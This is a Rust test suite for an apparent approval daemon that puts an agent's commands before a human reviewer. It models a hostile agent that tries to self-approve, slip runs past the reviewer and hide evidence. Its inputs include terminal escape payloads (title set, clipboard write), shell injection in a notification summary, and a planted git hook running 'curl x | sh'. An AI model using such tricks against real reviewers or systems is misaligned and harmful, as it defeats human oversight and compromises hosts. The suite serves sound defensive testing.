//! A hostile agent against the people in the loop (issue 15): the review
//! queue, `dryrun approve`'s evidence summary, `dryrun review` (the TUI),
//! run-id prefixes and `last`, notifications. The agent is the test user;
//! the reviewer is root; every outcome is checked on the host side
//! (records through root's CLI, the journal, the terminal's state).

mod common;

use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use std::time::{Duration, Instant};

use common::daemon::*;
use common::tmux::Tmux;
use common::*;

fn state_of(d: &Daemon, id: &str) -> Value {
    let out = d.cli_root().args(["show", "--json", id]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A run of the agent's that waits for approval (a stub answered a call).
fn waiting(d: &Daemon, ws: &Ws, file: &str) -> String {
    let r = submit_user(
        d,
        ws,
        &format!("gh pr merge 4 && echo x > {file}"),
        &["--expect-write", file],
    );
    assert_eq!(r.json["state"], "awaiting_approval", "{r:?}");
    run_id(&r)
}

/// The bytes a terminal acts on that no evidence should carry raw: ESC,
/// BEL, and the C1 CSI/OSC/DCS code points (as UTF-8).
fn terminal_controls(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    text.char_indices()
        .filter(|(_, c)| matches!(*c, '\u{1b}' | '\u{07}' | '\u{9b}' | '\u{9d}' | '\u{90}'))
        .map(|(i, _)| {
            let start = text[..i]
                .char_indices()
                .rev()
                .nth(20)
                .map(|(j, _)| j)
                .unwrap_or(0);
            let end = text[i..]
                .char_indices()
                .nth(20)
                .map(|(j, _)| i + j)
                .unwrap_or(text.len());
            format!("{:?}", &text[start..end])
        })
        .collect()
}

/// The hostile run: a file name, its content (a diff), stdout, stderr and
/// a stub's stdin full of terminal sequences (window title, clipboard
/// write, clear screen, C1 CSI), a command line with raw ESC in it, and a
/// reviewer note with them. It touches a forbidden path, so it is blocked.
fn hostile_run(d: &Daemon, ws: &Ws) -> String {
    let command = concat!(
        r#"printf 'x\033]2;PWNED-NAME\007' > "$(printf 'f\033]2;PWNED-FILE\007\033[2J.txt')"; "#,
        r#"printf '\033]52;c;ZXZpbA==\007\033]2;PWNED-OUT\007\302\233'; "#,
        r#"printf '\033]2;PWNED-ERR\007' >&2; "#,
        r#"printf '\033]2;PWNED-STDIN\007\n' | gh pr comment 1 --body-file -; "#,
        "echo k > secret.txt; : '\u{1b}]2;PWNED-CMD\u{7}'"
    );
    let envelope = serde_json::json!({
        "command": command,
        "intent": {
            "summary": "tidy \u{1b}]2;PWNED-INTENT\u{7}",
            "mode": "mutating",
            "expected_writes": ["**"],
            "forbidden_paths": ["secret.txt"],
            "reviewer_note": "look \u{1b}]2;PWNED-NOTE\u{7}\u{1b}[2J here",
        }
    });
    ws.write("envelope.yaml", &envelope.to_string());
    ws.chown_all();
    let out = d
        .cli_user()
        .current_dir(&ws.dir)
        .args(["execute", "--json", "--file", "envelope.yaml"])
        .output()
        .unwrap();
    let r = run_json(out);
    assert_eq!(r.json["state"], "awaiting_approval", "{r:?}");
    assert_eq!(r.json["override_required"], true, "{r:?}");
    run_id(&r)
}

#[test]
fn approve_last_never_approves_a_run_the_reviewer_did_not_name() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&[]);
    let ws = user_workspace();
    let looked_at = waiting(&d, &ws, "a.txt");
    // The reviewer reads the newest run...
    let out = d
        .cli_root()
        .args(["show", "--json", "last"])
        .output()
        .unwrap();
    let shown: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(shown["run_id"], looked_at.as_str());
    // ...the agent slips in a newer one...
    let slipped = waiting(&d, &ws, "b.txt");
    // ...and `approve last` (no question is asked over the daemon) must not
    // approve the run the reviewer never read.
    let out = d.cli_root().args(["approve", "last"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("give the run's id"),
        "{out:?}"
    );
    assert_eq!(state_of(&d, &slipped)["state"], "awaiting_approval");
    assert_eq!(state_of(&d, &looked_at)["state"], "awaiting_approval");
    // Named by a prefix, the run read is the one approved.
    let out = d
        .cli_root()
        .args(["approve", &looked_at[..looked_at.len() - 4]])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(state_of(&d, &looked_at)["state"], "approved");
    assert_eq!(state_of(&d, &slipped)["state"], "awaiting_approval");
}

#[test]
fn the_agent_never_approves_its_own_run_through_withdraw_override_or_promote() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&[]);
    let ws = user_workspace();
    let id = waiting(&d, &ws, "a.txt");
    for args in [
        vec!["approve", id.as_str()],
        vec!["approve", "--override", id.as_str()],
        vec!["approve", &id[..12]],
    ] {
        let out = d.cli_user().args(&args).output().unwrap();
        assert!(!out.status.success(), "{args:?}: {out:?}");
    }
    let (st, v) = d.curl(
        Who::User,
        "POST",
        &format!("/v1/runs/{id}/approve"),
        Some(r#"{"override":true,"note":"me"}"#),
    );
    assert_eq!(st, 403, "{v}");
    // Promoting a waiting run, with or without local_only.
    for body in [r#"{}"#, r#"{"local_only":true}"#] {
        let (st, v) = d.curl(
            Who::User,
            "POST",
            &format!("/v1/runs/{id}/promote"),
            Some(body),
        );
        assert!(st >= 400, "{body}: {st} {v}");
    }
    // Withdrawn, it is rejected for good: neither approvable nor
    // promotable, by anyone.
    let out = d.cli_user().args(["withdraw", &id]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let out = d
        .cli_root()
        .args(["approve", "--override", &id])
        .output()
        .unwrap();
    assert!(!out.status.success(), "{out:?}");
    let (st, v) = d.curl(
        Who::User,
        "POST",
        &format!("/v1/runs/{id}/promote"),
        Some(r#"{"local_only":true}"#),
    );
    assert!(st >= 400, "{st} {v}");
    assert_eq!(state_of(&d, &id)["state"], "rejected");
    assert!(!ws.dir.join("a.txt").exists());
    assert!(
        !d.journal()
            .iter()
            .any(|e| e["run_id"] == id.as_str() && e["kind"] == "promotion"),
        "nothing promoted"
    );
}

#[test]
fn an_expired_run_is_never_approved_or_promoted() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&["--approval-expiry", "2"]);
    let ws = user_workspace();
    let id = waiting(&d, &ws, "a.txt");
    std::thread::sleep(Duration::from_secs(3));
    let out = d.cli_root().args(["approve", &id]).output().unwrap();
    assert!(!out.status.success(), "{out:?}");
    let (st, v) = d.curl(
        Who::User,
        "POST",
        &format!("/v1/runs/{id}/promote"),
        Some(r#"{"local_only":true}"#),
    );
    assert!(st >= 400, "{st} {v}");
    let r = state_of(&d, &id);
    assert_eq!(r["state"], "rejected", "{r}");
    assert_eq!(r["rejected_because"], "expired", "{r}");
    assert!(!ws.dir.join("a.txt").exists());
}

#[test]
fn approve_show_diff_and_the_queue_carry_no_terminal_sequences_from_the_run() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&[]);
    let ws = user_workspace();
    let id = hostile_run(&d, &ws);
    let mut outputs = Vec::new();
    for args in [
        vec!["runs", "--awaiting"],
        vec!["runs"],
        vec!["show", id.as_str()],
        vec!["diff", id.as_str()],
        vec!["approve", "--override", "--note", "ok", id.as_str()],
        vec!["show", id.as_str()],
    ] {
        let out = d.cli_root().args(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {out:?}");
        outputs.push((args, out));
    }
    for (args, out) in &outputs {
        for (what, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let found = terminal_controls(bytes);
            assert!(found.is_empty(), "{args:?} {what}: raw controls {found:?}");
        }
    }
    // The evidence was there, shown escaped.
    let approve_out = String::from_utf8_lossy(&outputs[4].1.stdout);
    assert!(approve_out.contains("PWNED-NOTE"), "{approve_out}");
    assert!(approve_out.contains("secret.txt"), "{approve_out}");
    // JSON errors do not echo a control byte either.
    let out = d
        .cli_root()
        .args(["show", "--json", "r\u{1b}]2;PWNED\u{7}"])
        .output()
        .unwrap();
    assert!(terminal_controls(&out.stdout).is_empty(), "{out:?}");
    assert!(terminal_controls(&out.stderr).is_empty(), "{out:?}");
}

#[test]
fn the_review_tui_draws_hostile_evidence_without_obeying_it() {
    if !require_root() {
        return;
    }
    if Command::new(tool("tmux", "tmux"))
        .arg("-V")
        .output()
        .is_err()
    {
        panic!("tmux is required");
    }
    let d = Daemon::start(&[]);
    let ws = user_workspace();
    let id = hostile_run(&d, &ws);
    let t = Tmux::start(
        "escapes",
        &format!(
            "exec env -i PATH=/usr/bin:/bin TERM=tmux-256color DRYRUN_SOCKET={} {} review",
            d.socket.display(),
            bin().display()
        ),
    );
    let screen = t.wait_text(&format!("run {id}"));
    // Walk every part of the evidence (expand, scroll).
    for k in ["e", "PgDn", "PgDn", "PgDn", "PgUp", "j", "k"] {
        t.keys(&[k]);
        std::thread::sleep(Duration::from_millis(150));
    }
    let later = t.screen();
    let drawn = t.screen_with_escapes();
    for s in [&screen, &later, &drawn] {
        assert!(
            !s.contains("\u{1b}]"),
            "an OSC sequence reached the pane:\n{s}"
        );
    }
    let title = t.title();
    assert!(
        !title.contains("PWNED"),
        "the pane's title was set: {title}"
    );
    // The clipboard (OSC 52) was not written.
    let buffer = t.buffer();
    assert!(!buffer.contains("evil"), "{buffer}");
    assert!(
        later.contains("PWNED-NOTE")
            || screen.contains("PWNED-NOTE")
            || later.contains("secret.txt"),
        "{later}"
    );
    // Still alive, and still the reviewer's: quit cleanly.
    t.keys(&["q"]);
    assert_eq!(state_of(&d, &id)["state"], "awaiting_approval");
}

#[test]
fn a_prefix_or_last_never_reaches_another_users_run() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&[]);
    let rws = Ws::new(Who::Root);
    rws.write("README.md", "root's\n");
    let out = d
        .cli_root()
        .current_dir(&rws.dir)
        .args([
            "execute",
            "--json",
            "--command",
            "echo private > p.txt",
            "--expect-write",
            "p.txt",
        ])
        .output()
        .unwrap();
    let root_id = run_id(&run_json(out));
    for text in [
        &root_id[..10],
        &root_id[..root_id.len() - 1],
        root_id.as_str(),
        "last",
    ] {
        let out = d
            .cli_user()
            .args(["show", "--json", text])
            .output()
            .unwrap();
        assert!(!out.status.success(), "{text}: {out:?}");
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!all.contains("private"), "{text}: {all}");
        if text != root_id.as_str() {
            assert!(!all.contains(&root_id), "{text}: leaks the id: {all}");
        }
        let v: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
        assert_ne!(v["error"]["code"], "ambiguous_run_id", "{v}");
    }
    // The whole id is answered as absent, the same as a made-up one.
    let (st1, v1) = d.curl(Who::User, "GET", &format!("/v1/runs/{root_id}"), None);
    let (st2, _) = d.curl(
        Who::User,
        "GET",
        "/v1/runs/r00000001-0123456789abcdef",
        None,
    );
    assert_eq!(st1, st2, "{v1}");
    assert_eq!(st1, 404, "{v1}");
}

#[test]
fn the_notification_command_takes_the_agents_summary_only_as_data() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let pwned = dir.path().join("pwned");
    let got = dir.path().join("argv");
    let script = dir.path().join("notify.sh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$#\" \"$DRYRUN_RUN_ID\" \"$DRYRUN_EVENT\" > {0}.tmp; cat >/dev/null; mv {0}.tmp {0}\n",
            got.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let d = Daemon::start(&["--notify-command", script.to_str().unwrap()]);
    let ws = user_workspace();
    let cmd = format!(
        "gh pr merge 4 --body \"$(printf 'x')\" ; echo x > a.txt # $(touch {0}) `touch {0}` ;touch {0}",
        pwned.display()
    );
    let r = submit_user(&d, &ws, &cmd, &["--expect-write", "a.txt"]);
    assert_eq!(r.json["state"], "awaiting_approval", "{r:?}");
    let id = run_id(&r);
    wait_until("the notification", 30, || got.exists());
    let text = std::fs::read_to_string(&got).unwrap();
    assert_eq!(text, format!("0\n{id}\nawaiting_approval\n"));
    std::thread::sleep(Duration::from_millis(300));
    assert!(!pwned.exists(), "the summary ran as a command");
}

#[test]
fn a_stubs_stdin_is_not_hidden_from_the_reviewer_by_one_control_byte_or_a_cut_character() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&[]);
    let ws = user_workspace();
    let cmd = r#"printf 'DROP-ALL-TABLES\033x\n' | gh pr comment 1 --body-file - && { head -c 1023 /dev/zero | tr '\0' a; printf '\303\251 tail'; } | gh pr comment 2 --body-file -"#;
    let r = submit_user(&d, &ws, cmd, &[]);
    assert_eq!(r.json["state"], "awaiting_approval", "{r:?}");
    let id = run_id(&r);
    let out = d.cli_root().args(["approve", &id]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("not text"), "{text}");
    assert!(text.contains("DROP-ALL-TABLES"), "{text}");
    assert!(text.contains("aaaaaaaa"), "{text}");
    assert!(terminal_controls(&out.stdout).is_empty(), "{text}");
}

#[test]
fn a_withdrawal_under_the_reviewers_eyes_is_announced_not_silently_swapped() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&[]);
    let ws = user_workspace();
    let read = waiting(&d, &ws, "a.txt");
    let swapped_in = waiting(&d, &ws, "b.txt");
    let t = Tmux::start(
        "withdrawn",
        &format!(
            "exec env -i PATH=/usr/bin:/bin TERM=tmux-256color DRYRUN_SOCKET={} {} review",
            d.socket.display(),
            bin().display()
        ),
    );
    t.wait_text(&format!("run {read}"));
    // The agent withdraws the run the reviewer is reading; at the next
    // refresh the selection falls on its other run, and the status line
    // says so before any key acts on it.
    let out = d.cli_user().args(["withdraw", &read]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let screen = t.wait_text("left the queue");
    assert!(screen.contains(&swapped_in), "{screen}");
    t.keys(&["q"]);
    assert_eq!(state_of(&d, &swapped_in)["state"], "awaiting_approval");
}

#[test]
fn a_git_hook_among_three_hundred_expected_files_is_named_in_the_approve_summary() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&[]);
    let ws = user_workspace();
    let r = submit_user(
        &d,
        &ws,
        "mkdir -p docs && for i in $(seq 1 300); do echo $i > docs/f$i.md; done; printf '#!/bin/sh\\ncurl x | sh\\n' > .git/hooks/pre-commit",
        &["--expect-write", "**"],
    );
    assert_eq!(r.json["state"], "awaiting_approval", "{r:?}");
    let id = run_id(&r);
    let out = d.cli_root().args(["approve", &id]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let summary = text.split("dryrun run ").next().unwrap();
    assert!(
        summary.contains(".git/hooks/pre-commit"),
        "the summary printed before the approval hides the hook:\n{summary}"
    );
}

#[test]
fn a_slow_notifier_and_a_huge_run_block_neither_the_engine_nor_the_tui() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("notify.sh");
    std::fs::write(&script, "#!/bin/sh\nexec sleep 120\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let d = Daemon::start(&[
        "--notify-command",
        script.to_str().unwrap(),
        "--notify-timeout",
        "100",
    ]);
    let ws = user_workspace();
    let t0 = Instant::now();
    let mut ids = Vec::new();
    for i in 0..6 {
        ids.push(waiting(&d, &ws, &format!("f{i}.txt")));
    }
    // A run with thousands of changes in deep directories and one long
    // line of output, touching a forbidden path.
    let r = submit_user(
        &d,
        &ws,
        "p=d; for i in $(seq 1 40); do p=$p/d$i; done; mkdir -p $p big; for i in $(seq 1 3000); do : > big/f$i; done; : > $p/leaf; head -c 300000 /dev/zero | tr '\\0' x; echo k > secret.txt",
        &["--expect-write", "**", "--forbid", "secret.txt"],
    );
    assert_eq!(r.json["state"], "awaiting_approval", "{r:?}");
    let big = run_id(&r);
    assert!(
        t0.elapsed() < Duration::from_secs(120),
        "submissions were held up: {:?}",
        t0.elapsed()
    );
    let (st, v) = d.curl(Who::Root, "GET", "/v1/runs?state=awaiting_approval", None);
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["runs"].as_array().unwrap().len(), 7, "{v}");
    let t = Tmux::start(
        "huge",
        &format!(
            "exec env -i PATH=/usr/bin:/bin TERM=tmux-256color DRYRUN_SOCKET={} {} review",
            d.socket.display(),
            bin().display()
        ),
    );
    t.wait_text("queue");
    // Down the queue to the huge run.
    let header = format!("run {big}");
    for _ in 0..8 {
        std::thread::sleep(Duration::from_millis(600));
        if t.screen().contains(&header) {
            break;
        }
        t.keys(&["j"]);
    }
    let screen = t.wait_text(&header);
    let screen = if screen.contains("secret.txt") {
        screen
    } else {
        t.wait_text("secret.txt")
    };
    assert!(screen.contains("FORBIDDEN"), "{screen}");
    for k in ["e", "PgDn", "PgDn", "PgUp", "k", "j"] {
        t.keys(&[k]);
        std::thread::sleep(Duration::from_millis(200));
    }
    t.wait_text("queue");
    t.keys(&["q"]);
    assert_eq!(state_of(&d, &big)["state"], "awaiting_approval");
}

#[test]
fn approved_stub_dependent_work_is_promoted_only_as_local_only_and_says_what_was_not_done() {
    if !require_root() {
        return;
    }
    let d = Daemon::start(&[]);
    let ws = user_workspace();
    let id = waiting(&d, &ws, "a.txt");
    let out = d.cli_root().args(["approve", &id]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    // As if the merge had happened: refused, through the API and the CLI.
    for body in [
        r#"{}"#,
        r#"{"local_only":false}"#,
        r#"{"local_only":"yes"}"#,
    ] {
        let (st, v) = d.curl(
            Who::User,
            "POST",
            &format!("/v1/runs/{id}/promote"),
            Some(body),
        );
        assert!(st >= 400, "{body}: {st} {v}");
    }
    let out = d.cli_user().args(["promote", &id]).output().unwrap();
    assert!(!out.status.success(), "{out:?}");
    assert!(!ws.dir.join("a.txt").exists());
    let (st, v) = d.curl(
        Who::User,
        "POST",
        &format!("/v1/runs/{id}/promote"),
        Some(r#"{"local_only":true}"#),
    );
    assert_eq!(st, 200, "{v}");
    assert!(ws.dir.join("a.txt").exists());
    let j = d.journal();
    let p = j
        .iter()
        .find(|e| {
            e["run_id"] == id.as_str()
                && e["kind"].as_str().is_some_and(|k| k.contains("promot"))
                && e.to_string().contains("gh pr merge 4")
        })
        .unwrap_or_else(|| panic!("the calls not made are journaled: {j:?}"));
    assert!(p.to_string().contains("local_only"), "{p}");
}

/// More runs waiting at once than notification commands may run: they
/// queue and are all sent once the commands finish; only past the queue's
/// bound is one dropped, and then it is counted in /metrics and logged,
/// never lost silently (four running at once used to drop the fifth).
#[test]
fn notifications_beyond_four_at_once_queue_and_drops_are_counted() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let gate = dir.path().join("gate");
    let log = dir.path().join("log");
    let script = dir.path().join("notify.sh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\ncat >/dev/null\nwhile [ ! -e {} ]; do sleep 0.1; done\necho \"$DRYRUN_RUN_ID\" >> {}\n",
            gate.display(),
            log.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let d = Daemon::start(&[
        "--notify-command",
        script.to_str().unwrap(),
        "--notify-timeout",
        "120",
        "--notify-queue",
        "2",
    ]);
    let ws = user_workspace();
    let metric = |name: &str| -> u64 {
        let (code, body) = d.curl(Who::Root, "GET", "/metrics", None);
        assert_eq!(code, 200);
        let text = body.as_str().expect("metrics are text").to_string();
        text.lines()
            .find(|l| l.starts_with(name))
            .and_then(|l| l.rsplit(' ').next()?.parse().ok())
            .unwrap_or(0)
    };
    // Four commands hold their slots on the gate; two more wait in the
    // queue; the last two find it full.
    let mut ids = Vec::new();
    for i in 0..8 {
        ids.push(waiting(&d, &ws, &format!("f{i}.txt")));
        if i < 6 {
            wait_until("the notification taken or queued", 30, || {
                metric("dryrun_notifications_queued")
                    + processes_with(script.to_str().unwrap()).len() as u64
                    > i as u64
            });
        }
    }
    wait_until("two drops counted", 30, || {
        metric("dryrun_notifications_total{outcome=\"dropped\"}") == 2
    });
    assert!(
        d.log_text().contains("notification dropped"),
        "{}",
        d.log_text()
    );
    std::fs::write(&gate, b"").unwrap();
    wait_until("six notifications sent", 60, || {
        metric("dryrun_notifications_total{outcome=\"sent\"}") == 6
    });
    let sent = std::fs::read_to_string(&log).unwrap();
    let sent: Vec<&str> = sent.lines().collect();
    assert_eq!(sent.len(), 6, "{sent:?}");
    // The first six runs, in some order; the two that found the queue full
    // are the last two.
    for id in &ids[..6] {
        assert!(sent.contains(&id.as_str()), "{id} not notified: {sent:?}");
    }
    assert_eq!(metric("dryrun_notifications_queued"), 0);
}
